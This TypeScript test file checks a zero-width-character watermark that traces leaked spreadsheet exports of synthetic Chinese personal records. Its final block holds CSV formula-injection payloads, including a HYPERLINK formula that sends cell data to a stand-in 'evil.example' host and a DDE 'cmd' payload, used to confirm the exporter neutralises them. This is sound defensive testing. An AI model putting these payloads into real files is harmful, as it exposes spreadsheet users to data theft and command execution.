import ExcelJS from 'exceljs';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { csvStream } from './export-stream.js';
import { type Cell, type ColumnType, readPayload, rowMarker, score, sipHash24, trace } from './watermark.js';

// A leaked export goes through what people do to files: re-sorting, deleting rows and
// columns, Excel's XLSX, Excel's "CSV" (GBK on a Chinese Windows, numbers and dates
// rewritten). Each case checks that trace names the export that made the file among 20
// candidates, and never one that did not.

const SECRET = new TextEncoder().encode('test-secret-32-bytes-long-enough');
const OTHER_SECRET = new TextEncoder().encode('another-secret-also-long-enough!');
const CANDIDATES = Array.from({ length: 20 }, (_, i) => 1001 + i);
const TRUE_SEQ = 1013;
// The payload's digits. (Helpers rather than a regex class: U+200D in a class reads as a joiner.)
const ZW = ['\u200b', '\u200c', '\u200d', '\u2060'];
const isZw = (ch: string | undefined) => ch !== undefined && ZW.includes(ch);
const hasZw = (s: string) => [...s].some(isZw);
const withoutZw = (s: string) => [...s].filter((ch) => !isZw(ch)).join('');
const zwRun = (s: string) => [...s].filter(isZw).join('');
/** What the marks added after `original`: only zero-width digits, then at most one space. */
const onlyMarks = (added: string) => [...(added.endsWith(' ') ? added.slice(0, -1) : added)].every(isZw);

const COLUMNS: { name: string; type: ColumnType }[] = [
  { name: '编号', type: 'integer' },
  { name: '姓名', type: 'string' },
  { name: '身份证号', type: 'string' },
  { name: '手机号', type: 'string' },
  { name: '住址', type: 'string' },
  { name: '出生日期', type: 'date' },
  { name: '月收入', type: 'decimal' },
  { name: '备注', type: 'string' },
  { name: '是否有效', type: 'boolean' },
];
const HEADER = COLUMNS.map((c) => c.name);
const TEXT_COLUMNS = COLUMNS.flatMap((c, i) => (c.type === 'string' ? [i] : []));

// ---------------------------------------------------------------------------------------------
// Realistic rows from a seeded generator

function mulberry32(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SURNAMES = [...'王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾'];
const GIVEN = [...'伟芳娜秀英敏静丽强磊军洋勇艳杰娟涛明超兰霞平刚桂华建国志红玉梅'];
const DISTRICTS = ['张店区', '淄川区', '博山区', '临淄区', '周村区', '桓台县', '高青县', '沂源县'];
const ROADS = ['人民路', '中山路', '华光路', '共青团路', '柳泉路', '西六路', '金晶大道', '新村路'];
const NOTES = ['低保户', '已核实', '待回访', '户籍迁出', 'Need review', '信息变更（2023年）', '联系不上'];

function generateRows(n: number, seed: number): Cell[][] {
  const rnd = mulberry32(seed);
  const int = (lo: number, hi: number) => lo + Math.floor(rnd() * (hi - lo + 1));
  const pick = <T>(xs: T[]) => xs[int(0, xs.length - 1)];
  const pad = (v: number, w: number) => String(v).padStart(w, '0');
  return Array.from({ length: n }, (_, i) => {
    const surname = pick(SURNAMES);
    const given = pick(GIVEN) + (rnd() < 0.6 ? pick(GIVEN) : '');
    const birth = `${int(1950, 2005)}-${pad(int(1, 12), 2)}-${pad(int(1, 28), 2)}`;
    const id = `370303${birth.replaceAll('-', '')}${pad(int(0, 999), 3)}${rnd() < 0.1 ? 'X' : int(0, 9)}`;
    const phone = `1${pick(['38', '39', '58', '86', '77'])}${pad(int(0, 99999999), 8)}`;
    const district = pick(DISTRICTS);
    const masked = rnd() < 0.25;
    // About one row in twenty has no text at all: those carry no mark.
    const noText = rnd() < 0.05;
    const text = (v: string | null) => (noText ? null : v);
    return [
      String(i + 1),
      text(masked ? `${surname}*${given.length > 1 ? given.slice(1) : ''}` : surname + given),
      text(masked ? `${id.slice(0, 6)}********${id.slice(-4)}` : id),
      text(masked ? `${phone.slice(0, 3)}****${phone.slice(-4)}` : phone),
      text(masked ? `山东省淄博市${district}` : `山东省淄博市${district}${pick(ROADS)}${int(1, 400)}号`),
      rnd() < 0.05 ? null : birth,
      (int(0, 2_000_000) / 100).toFixed(2),
      text(rnd() < 0.4 ? null : rnd() < 0.15 ? '' : pick(NOTES)),
      rnd() < 0.5 ? 'true' : 'false',
    ];
  });
}

const DATA = generateRows(500, 7);

function exportTable(seq: number, rows: Cell[][] = DATA, secret = SECRET): string[][] {
  const mark = rowMarker(secret, seq, COLUMNS);
  return [HEADER, ...rows.map((r) => mark(r).map((c) => c ?? ''))];
}

const plain = (rows: Cell[][]) => [HEADER, ...rows.map((r) => r.map((c) => c ?? ''))];

// ---------------------------------------------------------------------------------------------
// What happens to leaked files

function shuffled(table: string[][], seed: number): string[][] {
  const rnd = mulberry32(seed);
  const body = table.slice(1);
  for (let i = body.length - 1; i > 0; i--) {
    const j = Math.floor(rnd() * (i + 1));
    [body[i], body[j]] = [body[j], body[i]];
  }
  return [table[0], ...body];
}

const everyOtherRow = (table: string[][]) => [table[0], ...table.slice(1).filter((_, i) => i % 2 === 0)];
const withoutColumn = (table: string[][], name: string) => {
  const at = table[0].indexOf(name);
  return table.map((r) => r.filter((_, i) => i !== at));
};

async function throughXlsx(table: string[][]): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('导出');
  // As an export would write it: integers and decimals as numbers, the rest as text.
  const numeric = new Set(COLUMNS.flatMap((c, i) => (c.type === 'integer' || c.type === 'decimal' ? [i] : [])));
  table.forEach((row, r) => {
    ws.addRow(row.map((v, i) => (r > 0 && numeric.has(i) && v !== '' ? Number(v) : v === '' ? null : v)));
  });
  const buffer = await wb.xlsx.writeBuffer();
  const back = new ExcelJS.Workbook();
  await back.xlsx.load(buffer);
  const out: string[][] = [];
  back.worksheets[0].eachRow({ includeEmpty: true }, (row) => {
    out.push(
      Array.from({ length: table[0].length }, (_, i) => {
        const v = row.getCell(i + 1).value;
        return v === null || v === undefined ? '' : String(v);
      }),
    );
  });
  return out;
}

function toCsv(table: string[][]): string {
  const field = (v: string) => (/[",\r\n]|^\s|\s$/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
  return `${table.map((r) => r.map(field).join(',')).join('\r\n')}\r\n`;
}

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}

/** Chinese Excel's "CSV": code page 936, where a character GBK lacks (U+200B…) becomes '?'. */
function throughGbkCsv(table: string[][]): string[][] {
  const bytes = iconv.encode(toCsv(table), 'gbk');
  const back = iconv.decode(bytes, 'gbk');
  expect(hasZw(back)).toBe(false);
  return parseCsv(back);
}

/** What Excel does to cells it reads as numbers, dates and booleans when it saves them again. */
function excelRewrites(table: string[][]): string[][] {
  const cell = (v: string) => {
    // 370303199001011234 → 3.70303E+17
    if (/^\d{12,}$/.test(v)) {
      const [mantissa, exponent] = Number(v).toExponential(5).split('e');
      return `${mantissa.replace(/\.?0+$/, '')}E${exponent}`;
    }
    const date = /^(\d{4})-(\d{2})-(\d{2})$/.exec(v);
    if (date) return `${date[1]}/${Number(date[2])}/${Number(date[3])}`;
    if (/^\d+\.\d*0$/.test(v)) return String(Number(v));
    if (v === 'true' || v === 'false') return v.toUpperCase();
    return v;
  };
  return [table[0], ...table.slice(1).map((r) => r.map(cell))];
}

// ---------------------------------------------------------------------------------------------

describe('tracing a leaked export', () => {
  const marked = exportTable(TRUE_SEQ);

  const cases: [string, () => string[][] | Promise<string[][]>, 'payload' | 'statistical'][] = [
    ['unchanged', () => marked, 'payload'],
    ['rows shuffled', () => shuffled(marked, 1), 'payload'],
    ['half the rows deleted', () => everyOtherRow(shuffled(marked, 2)), 'payload'],
    ['a text column deleted', () => withoutColumn(marked, '住址'), 'payload'],
    ['written to XLSX and read back', () => throughXlsx(shuffled(marked, 3)), 'payload'],
    ['saved as CSV through GBK', () => throughGbkCsv(marked), 'statistical'],
    ['GBK CSV with Excel rewriting numbers and dates', () => throughGbkCsv(excelRewrites(marked)), 'statistical'],
    ['Excel rewrites in a UTF-8 file', () => excelRewrites(marked), 'payload'],
    [
      'GBK, Excel rewrites, shuffled, half the rows and two columns deleted',
      () => throughGbkCsv(excelRewrites(withoutColumn(withoutColumn(everyOtherRow(shuffled(marked, 4)), '住址'), '姓名'))),
      'statistical',
    ],
  ];

  it.each(cases)('%s: names the export, and only among candidates that include it', async (_, leak, method) => {
    const table = await leak();
    const found = trace(SECRET, table, CANDIDATES);
    expect(found).toMatchObject({ exportSeq: TRUE_SEQ, method });
    expect(found!.confidence).toBeGreaterThan(1 - 1e-6);
    const others = CANDIDATES.filter((c) => c !== TRUE_SEQ);
    expect(trace(SECRET, table, others)).toBeNull();
  });

  it('the statistical channel alone separates the true export from the others', () => {
    const table = throughGbkCsv(excelRewrites(marked));
    const scores = CANDIDATES.map((seq) => ({ seq, ...score(SECRET, seq, table) }));
    const truth = scores.find((s) => s.seq === TRUE_SEQ)!;
    expect(truth.units).toBeGreaterThan(300);
    expect(truth.matched / truth.units).toBeGreaterThan(0.95);
    for (const s of scores.filter((s) => s.seq !== TRUE_SEQ)) expect(Math.abs(s.z)).toBeLessThan(4);
  });

  it('a column deleted loses the payload only on the rows it hosted', () => {
    const [full] = readPayload(SECRET, marked);
    const [cut] = readPayload(SECRET, withoutColumn(marked, '住址'));
    const rowsWithText = DATA.filter((r) => TEXT_COLUMNS.some((i) => r[i])).length;
    expect(full).toEqual({ exportSeq: TRUE_SEQ, rows: rowsWithText });
    expect(cut.exportSeq).toBe(TRUE_SEQ);
    expect(cut.rows).toBeGreaterThan(rowsWithText / 2);
    expect(cut.rows).toBeLessThan(rowsWithText);
  });

  it('a tiny leak is too little evidence for the statistical channel, not a wrong answer', () => {
    const few = throughGbkCsv(marked.slice(0, 4));
    expect(trace(SECRET, few, CANDIDATES)).toBeNull();
    // With the payload intact, one row is enough.
    const withText = marked.findIndex((r, i) => i > 0 && hasZw(r.join('')));
    expect(trace(SECRET, [HEADER, marked[withText]], CANDIDATES)).toMatchObject({ exportSeq: TRUE_SEQ, method: 'payload', units: 1 });
  });

  it('carries export numbers beyond 32 bits', () => {
    const seq = 2 ** 40 + 7;
    const table = exportTable(seq);
    expect(trace(SECRET, table, [seq, seq + 1])).toMatchObject({ exportSeq: seq, method: 'payload' });
    expect(trace(SECRET, throughGbkCsv(table), [seq - 1, seq, seq + 1])).toMatchObject({ exportSeq: seq, method: 'statistical' });
  });
});

describe('files that must not be pinned on an export', () => {
  it('an unmarked file traces to nothing, through any channel', () => {
    expect(trace(SECRET, plain(DATA), CANDIDATES)).toBeNull();
    expect(trace(SECRET, throughGbkCsv(plain(DATA)), CANDIDATES)).toBeNull();
    expect(readPayload(SECRET, plain(DATA))).toEqual([]);
  });

  it('a file marked with another secret traces to nothing', () => {
    const foreign = exportTable(TRUE_SEQ, DATA, OTHER_SECRET);
    expect(readPayload(SECRET, foreign)).toEqual([]);
    expect(trace(SECRET, foreign, CANDIDATES)).toBeNull();
    expect(trace(SECRET, throughGbkCsv(foreign), CANDIDATES)).toBeNull();
  });

  it('a forged payload (the right export number, a wrong check) is ignored', () => {
    const rnd = mulberry32(99);
    const seqDigits = [...TRUE_SEQ.toString(4)].map((d) => ZW[Number(d)]).join('');
    const forge = () => seqDigits + Array.from({ length: 12 }, () => ZW[Math.floor(rnd() * 4)]).join('');
    const forged = plain(DATA).map((r, i) => (i === 0 ? r : r.map((c, j) => (TEXT_COLUMNS.includes(j) && c ? c + forge() : c))));
    expect(readPayload(SECRET, forged)).toEqual([]);
    expect(trace(SECRET, forged, CANDIDATES)).toBeNull();
  });

  it('a payload moved onto other text does not verify', () => {
    const marked = exportTable(TRUE_SEQ);
    const moved = marked.map((r, i) => (i === 0 ? r : r.map((c) => (hasZw(c) ? `${withoutZw(c).trimEnd()}改${zwRun(c)}` : c))));
    expect(readPayload(SECRET, moved)).toEqual([]);
  });

  it('a corrupted check does not count', () => {
    const marked = exportTable(TRUE_SEQ);
    // The last digit of the run is the last digit of the tag.
    const flip = (c: string) => {
      const at = c.endsWith(' ') ? c.length - 2 : c.length - 1;
      return isZw(c[at]) ? c.slice(0, at) + (c[at] === ZW[0] ? ZW[1] : ZW[0]) + c.slice(at + 1) : c;
    };
    const corrupted = marked.map((r, i) => (i === 0 || i > 100 ? r : r.map(flip)));
    const [found] = readPayload(SECRET, corrupted);
    expect(found.exportSeq).toBe(TRUE_SEQ);
    expect(found.rows).toBe(readPayload(SECRET, marked.slice(101))[0].rows);
  });

  describe('rows from two exports mixed', () => {
    const a = 1005;
    const b = 1017;
    const mixed = shuffled([HEADER, ...exportTable(a).slice(1, 301), ...exportTable(b).slice(301)], 5);
    // The same people exported twice: every value seen with both exports' marks.
    const overlapping = shuffled([HEADER, ...exportTable(a).slice(1, 301), ...exportTable(b).slice(1, 201)], 6);

    it('the payload names the export most rows came from', () => {
      expect(readPayload(SECRET, mixed).map((p) => p.exportSeq)).toEqual([a, b]);
      expect(trace(SECRET, mixed, CANDIDATES)).toMatchObject({ exportSeq: a, method: 'payload' });
      expect(trace(SECRET, overlapping, CANDIDATES)).toMatchObject({ exportSeq: a, method: 'payload' });
    });

    it('the statistical channel names one of the two, never another', () => {
      for (const table of [mixed, overlapping]) {
        const found = trace(SECRET, throughGbkCsv(table), CANDIDATES);
        expect(found?.method).toBe('statistical');
        expect(found?.exportSeq).toBe(a);
        const others = CANDIDATES.filter((c) => c !== a && c !== b);
        expect(trace(SECRET, throughGbkCsv(table), others)).toBeNull();
      }
    });
  });
});

describe('the marks', () => {
  const TYPES: ColumnType[] = ['string', 'integer', 'decimal', 'date', 'datetime', 'boolean', 'binary'];
  const textUnit = fc.constantFrom('张', '*', '3', 'a', 'Z', ' ', '\u3000', '?', '年', ',', '"', '\n', ...ZW);
  const cell = fc.option(fc.oneof(fc.string({ unit: textUnit, maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 12 })), { nil: null });
  const table = fc
    .array(fc.constantFrom(...TYPES), { minLength: 1, maxLength: 6 })
    .chain((types) => fc.tuple(fc.constant(types), fc.array(fc.array(cell, { minLength: types.length, maxLength: types.length }), { maxLength: 20 })));
  const seq = fc.integer({ min: 1, max: Number.MAX_SAFE_INTEGER });

  it('only append invisible characters and at most one space to non-empty text cells', () => {
    fc.assert(
      fc.property(table, seq, ([types, rows], exportSeq) => {
        const columns = types.map((type) => ({ type }));
        const mark = rowMarker(SECRET, exportSeq, columns);
        for (const row of rows) {
          const before = row.slice();
          const out = mark(row);
          expect(row).toEqual(before);
          expect(out).toHaveLength(row.length);
          for (const [i, original] of row.entries()) {
            const v = out[i];
            if (types[i] !== 'string' || !original) {
              expect(v).toBe(original);
              continue;
            }
            expect(v!.startsWith(original)).toBe(true);
            expect(onlyMarks(v!.slice(original.length))).toBe(true);
          }
        }
      }),
    );
  });

  it('the payload reads back the export number on every row that has a text cell', () => {
    fc.assert(
      fc.property(table, seq, ([types, rows], exportSeq) => {
        const columns = types.map((type) => ({ type }));
        const mark = rowMarker(SECRET, exportSeq, columns);
        const hosts = rows.filter((r) => r.some((c, i) => types[i] === 'string' && c && !isZw(c.at(-1)))).length;
        const file = rows.map((r) => mark(r).map((c) => c ?? ''));
        const found = readPayload(SECRET, file);
        expect(found.filter((f) => f.exportSeq === exportSeq)).toEqual(hosts ? [{ exportSeq, rows: hosts }] : []);
      }),
    );
  });

  it('rejects an export number that is not a positive integer and a short secret', () => {
    const columns = [{ type: 'string' as const }];
    for (const bad of [0, -1, 1.5, Number.NaN, 2 ** 53]) expect(() => rowMarker(SECRET, bad, columns)).toThrow(RangeError);
    expect(() => rowMarker(new Uint8Array(8), 1, columns)).toThrow(RangeError);
    expect(() => trace(SECRET, [], [0])).toThrow(RangeError);
  });
});

describe('sipHash24', () => {
  // The reference algorithm on bytes, in BigInt, checked against the published vectors.
  const MASK = (1n << 64n) - 1n;
  const rotl = (x: bigint, b: bigint) => ((x << b) | (x >> (64n - b))) & MASK;
  function reference(key: Buffer, msg: Buffer): bigint {
    const k0 = key.readBigUInt64LE(0);
    const k1 = key.readBigUInt64LE(8);
    let v0 = k0 ^ 0x736f6d6570736575n;
    let v1 = k1 ^ 0x646f72616e646f6dn;
    let v2 = k0 ^ 0x6c7967656e657261n;
    let v3 = k1 ^ 0x7465646279746573n;
    const round = () => {
      v0 = (v0 + v1) & MASK;
      v1 = rotl(v1, 13n) ^ v0;
      v0 = rotl(v0, 32n);
      v2 = (v2 + v3) & MASK;
      v3 = rotl(v3, 16n) ^ v2;
      v0 = (v0 + v3) & MASK;
      v3 = rotl(v3, 21n) ^ v0;
      v2 = (v2 + v1) & MASK;
      v1 = rotl(v1, 17n) ^ v2;
      v2 = rotl(v2, 32n);
    };
    const absorb = (m: bigint, rounds: number) => {
      v3 ^= m;
      for (let i = 0; i < rounds; i++) round();
      v0 ^= m;
    };
    const whole = msg.length - (msg.length % 8);
    for (let i = 0; i < whole; i += 8) absorb(msg.readBigUInt64LE(i), 2);
    let last = BigInt(msg.length & 0xff) << 56n;
    for (let i = whole; i < msg.length; i++) last |= BigInt(msg[i]) << BigInt(8 * (i - whole));
    absorb(last, 2);
    v2 ^= 0xffn;
    for (let i = 0; i < 4; i++) round();
    return v0 ^ v1 ^ v2 ^ v3;
  }
  const key = Buffer.from(Array.from({ length: 16 }, (_, i) => i));
  const words = Uint32Array.of(key.readUInt32LE(0), key.readUInt32LE(4), key.readUInt32LE(8), key.readUInt32LE(12));

  it('the reference gives the published vectors', () => {
    expect(reference(key, Buffer.alloc(0))).toBe(0x726fdb47dd0e0e31n);
    expect(reference(key, Buffer.from(Array.from({ length: 15 }, (_, i) => i)))).toBe(0xa129ca6149be45e5n);
  });

  it('equals the reference on the UTF-16LE bytes of any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (s) => {
        expect(sipHash24(words, s)).toBe(Number(reference(key, Buffer.from(s, 'utf16le')) & 0xffffffffn));
      }),
    );
  });
});

describe('a CSV export of formula-looking values', () => {
  // Cells a spreadsheet would run, in a text column; negative numbers in the integer and decimal ones.
  const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&C2,"详情")', '+1+2', '-3-4', '@SUM(A1:A9)', '\t=1+1', '\r=2', '=cmd|" /C calc"!A0'];
  const rows: Cell[][] = DATA.map((r, i) => {
    const out = r.slice();
    out[0] = String(-(i + 1));
    out[6] = `-${r[6]}`;
    out[7] = `${FORMULAS[i % FORMULAS.length]}${i}`;
    return out;
  });
  const numeric = COLUMNS.map((c) => c.type === 'integer' || c.type === 'decimal');
  const exported = async () => {
    const mark = rowMarker(SECRET, TRUE_SEQ, COLUMNS);
    const chunks: Buffer[] = [];
    for await (const c of csvStream(
      HEADER,
      (async function* () {
        yield rows.map(mark);
      })(),
      numeric,
    ))
      chunks.push(c as Buffer);
    return Buffer.concat(chunks)
      .toString('utf8')
      .replace(/^\ufeff/, '');
  };

  it('no cell starts a formula, real negative numbers stay numbers, and the file still names its export', async () => {
    const table = parseCsv(await exported());
    expect(table[0]).toEqual(HEADER);
    table.slice(1).forEach((r, i) => {
      expect(r[0]).toBe(String(-(i + 1)));
      expect(r[6]).toBe(rows[i][6]);
      expect(withoutZw(r[7]).trimEnd()).toBe(`'${rows[i][7]}`);
      for (const [k, cell] of r.entries()) if (!numeric[k]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
    expect(trace(SECRET, table, CANDIDATES)).toMatchObject({ exportSeq: TRUE_SEQ, method: 'payload' });
    const gbk = throughGbkCsv(table);
    expect(trace(SECRET, gbk, CANDIDATES)).toMatchObject({ exportSeq: TRUE_SEQ, method: 'statistical' });
    expect(
      trace(
        SECRET,
        gbk,
        CANDIDATES.filter((c) => c !== TRUE_SEQ),
      ),
    ).toBeNull();
  });
});
